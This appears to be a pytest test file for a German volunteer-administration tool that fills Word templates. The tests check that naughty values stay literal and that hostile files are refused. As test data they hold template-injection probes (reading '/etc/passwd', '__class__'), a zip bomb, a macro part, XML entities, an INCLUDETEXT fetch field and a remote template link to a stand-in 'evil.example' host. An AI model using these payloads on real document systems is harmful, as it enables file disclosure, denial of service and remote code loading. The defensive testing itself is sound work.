"""One's own Word file with fields: filled like every template, and never more than a file with text in it."""

import zipfile
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from agreement_records import DAY
from docx import Document
from office_schemas import broken_in_word
from sample_documents import a_recipient, a_sender
from test_naughty_values import NAUGHTY, squeezed

from ehrenamt_cli.documents.blanks import Blank
from ehrenamt_cli.documents.templates import library
from ehrenamt_cli.documents.templates.library import Template
from ehrenamt_cli.documents.word import templates as word_templates
from ehrenamt_cli.documents.words import literal
from ehrenamt_cli.errors import FileProblem, MissingFields, WrongUsage
from ehrenamt_cli.i18n import Text

FOLDER = Path(__file__).parents[1] / "data" / "templates"


def template() -> Template:
    return library.find("samples", "letter", "de", [FOLDER])


def a_word_file(path: Path, *lines: str, header: str = "") -> Path:
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    if header:
        document.sections[0].header.paragraphs[0].text = header
    document.save(str(path))
    return path


def filled(path: Path, *, draft: bool = False, **changes: Any) -> bytes:
    variables = {"day": DAY, "number": "7", "hours": 120, "sender": a_sender(), "recipient": a_recipient(), **changes}
    return word_templates.fill(path, template(), variables, draft=draft)


def texts(content: bytes) -> list[str]:
    return [paragraph.text for paragraph in Document(BytesIO(content)).paragraphs]


def with_part(path: Path, name: str, content: str, *, replacing: tuple[str, str] | None = None) -> Path:
    """The Word file with one part more, or with something in a part replaced."""
    with zipfile.ZipFile(path) as archive:
        parts = {entry: archive.read(entry) for entry in archive.namelist()}
    parts[name] = content.encode() if replacing is None else parts[name].replace(*(text.encode() for text in replacing))
    with zipfile.ZipFile(path, "w") as archive:
        for entry, data in parts.items():
            archive.writestr(entry, data)
    return path


def test_fields_loops_and_conditions_are_filled(tmp_path: Path) -> None:
    path = a_word_file(
        tmp_path / "letter.docx",
        "{{ recipient.salutation }}",
        "am {{ day }}{% if hours > 100 %} für {{ hours }} Stunden{% endif %}",
        "{%p for line in recipient.lines %}",
        "– {{ line }}",
        "{%p endfor %}",
        header="{{ sender.name }}",
    )
    content = filled(path)
    assert texts(content) == [
        "Guten Tag Jörg Müller-Weiß,",
        "am 22.\u00a0November 2026 für 120 Stunden",
        "– Jörg Müller-Weiß",
        "– Rote Straße 3",
        "– 21335 Lüneburg",
    ]
    assert Document(BytesIO(content)).sections[0].header.paragraphs[0].text == a_sender()["name"]


def test_is_valid_and_the_same_every_time(tmp_path: Path) -> None:
    path = a_word_file(tmp_path / "letter.docx", "{{ recipient.name }}", header="{{ number }}")
    for draft in (False, True):
        assert filled(path, draft=draft) == filled(path, draft=draft)
        (tmp_path / "filled.docx").write_bytes(filled(path, draft=draft))
        assert set(broken_in_word(tmp_path / "filled.docx")) <= set(broken_in_word(path)), "no worse than the file itself"


@pytest.mark.parametrize("name", NAUGHTY, ids=lambda name: ascii(name[:24]))
def test_a_naughty_name_stays_a_name(name: str, tmp_path: Path) -> None:
    path = a_word_file(tmp_path / "letter.docx", "vor {{ recipient.name }} nach", "{{ number }}", header="{{ recipient.name }}")
    content = filled(path, recipient=a_recipient(name), number="")
    first, second = texts(content)
    assert squeezed(first) == squeezed(f"vor {literal(name)} nach")
    assert second == ""
    (tmp_path / "filled.docx").write_bytes(content)
    assert set(broken_in_word(tmp_path / "filled.docx")) <= set(broken_in_word(path)), "no worse than the file itself"


def test_a_value_of_two_lines_is_two_lines(tmp_path: Path) -> None:
    path = a_word_file(tmp_path / "letter.docx", "{{ recipient.name }}")
    assert texts(filled(path, recipient=a_recipient("Anna\nBerta"))) == ["Anna\nBerta"]


def test_a_missing_value_stops_it_and_is_a_gap_in_a_draft(tmp_path: Path) -> None:
    path = a_word_file(tmp_path / "letter.docx", "Telefon: {{ recipient.phone }}")
    recipient = a_recipient(phone=Blank(Text("Telefon", "phone"), "recipient.phone"))
    with pytest.raises(MissingFields):
        filled(path, recipient=recipient)
    note, line = texts(filled(path, recipient=recipient, draft=True))
    assert note.startswith("Entwurf")
    assert line == "Telefon: ⟨Telefon⟩"
    with zipfile.ZipFile(BytesIO(filled(path, recipient=recipient, draft=True))) as archive:
        assert any(b"DraftMark" in archive.read(name) for name in archive.namelist() if "header" in name)


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("{{ recipient.nmae }}", "„nmae“"),
        ("{{ recipient }}", "ganzer Eintrag"),
        ("{{ recipient.lines }}", "ganze Liste"),
        ("{% if %}", ""),
        ("{{ ''.__class__ }}", "__class__"),
        ("{{ recipient.name.upper() }}", ""),
        ("{% for a in range(10000000) %}x{% endfor %}", "kein Ende"),
        ("{% include '/etc/passwd' %}", "/etc/passwd"),
        ("{{r recipient.name }}", "nicht erlaubt"),
        ("{{ signatures([]) }}", "ganze Liste"),
    ],
)
def test_what_no_template_may_do_is_refused_here_too(line: str, said: str, tmp_path: Path) -> None:
    with pytest.raises(WrongUsage) as caught:
        filled(a_word_file(tmp_path / "letter.docx", line))
    assert "letter.docx" in caught.value.message.de
    assert said in caught.value.message.de


class TestAHostileFile:
    def refused(self, path: Path) -> str:
        with pytest.raises(FileProblem) as caught:
            filled(path)
        return caught.value.message.de

    def a_file(self, tmp_path: Path) -> Path:
        return a_word_file(tmp_path / "letter.docx", "Hallo")

    def test_that_is_no_word_document(self, tmp_path: Path) -> None:
        path = tmp_path / "letter.docx"
        for content in (b"", b"%PDF-1.7", b"PK\x03\x04 broken"):
            path.write_bytes(content)
            assert "kein heiles Word-Dokument" in self.refused(path)
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("content.xml", "<x/>")
        assert "kein heiles Word-Dokument" in self.refused(path)

    def test_that_unpacks_to_far_more(self, tmp_path: Path) -> None:
        path = self.a_file(tmp_path)
        with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("word/media/bomb.bin", bytes(50_000_000))
        assert "ausgepackt zu groß" in self.refused(path)

    def test_that_is_too_large_itself(self, tmp_path: Path) -> None:
        path = self.a_file(tmp_path)
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr("word/media/large.bin", bytes(6_000_000))
        assert "5 MB" in self.refused(path)

    def test_with_programs(self, tmp_path: Path) -> None:
        assert "Programme" in self.refused(with_part(self.a_file(tmp_path), "word/vbaProject.bin", "x"))

    def test_with_entities(self, tmp_path: Path) -> None:
        path = with_part(self.a_file(tmp_path), "word/extra.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')
        assert "kein gewöhnlicher Teil" in self.refused(path)

    def test_that_loads_from_elsewhere(self, tmp_path: Path) -> None:
        rel = (
            '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
        )
        path = with_part(self.a_file(tmp_path), "word/_rels/document.xml.rels", "", replacing=("</Relationships>", rel))
        assert "http://evil.example/x.dotm" in self.refused(path)

    def test_with_a_field_that_fetches(self, tmp_path: Path) -> None:
        field = '<w:p><w:r><w:instrText>INCLUDETEXT "c:\\x.docx"</w:instrText></w:r></w:p><w:sectPr'
        path = with_part(self.a_file(tmp_path), "word/document.xml", "", replacing=("<w:sectPr", field))
        assert "INCLUDETEXT" in self.refused(path)

    def test_a_link_to_a_page_is_allowed(self, tmp_path: Path) -> None:
        rel = (
            '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
            'Target="https://www.freiwillige.example" TargetMode="External"/></Relationships>'
        )
        path = with_part(self.a_file(tmp_path), "word/_rels/document.xml.rels", "", replacing=("</Relationships>", rel))
        assert texts(filled(path)) == ["Hallo"]


class TestWhichFileStandsForATemplate:
    def test_the_one_of_its_name_and_language_in_ones_own_folders(self, tmp_path: Path) -> None:
        near, far = tmp_path / "near", tmp_path / "far"
        for folder in (near, far):
            (folder / "samples").mkdir(parents=True)
        assert word_templates.find(template(), [near, far]) is None
        path = a_word_file(far / "samples" / "letter.de.docx", "Hallo")
        a_word_file(near / "samples" / "letter.en.docx", "Hello")
        assert word_templates.find(template(), [near, far]) == path

    def test_never_one_outside_the_folder(self, tmp_path: Path) -> None:
        own = tmp_path / "own" / "samples"
        own.mkdir(parents=True)
        (own / "letter.de.docx").symlink_to(a_word_file(tmp_path / "secret.docx", "Hallo"))
        with pytest.raises(FileProblem):
            word_templates.find(template(), [tmp_path / "own"])

    def test_its_version_changes_with_the_file(self, tmp_path: Path) -> None:
        (tmp_path / "samples").mkdir()
        a_word_file(tmp_path / "samples" / "letter.de.docx", "Hallo")
        before = word_templates.version("samples/letter.de.docx", [tmp_path])
        a_word_file(tmp_path / "samples" / "letter.de.docx", "Hallo!")
        assert before != word_templates.version("samples/letter.de.docx", [tmp_path])
        assert word_templates.version("samples/letter.fr.docx", [tmp_path]) == ""
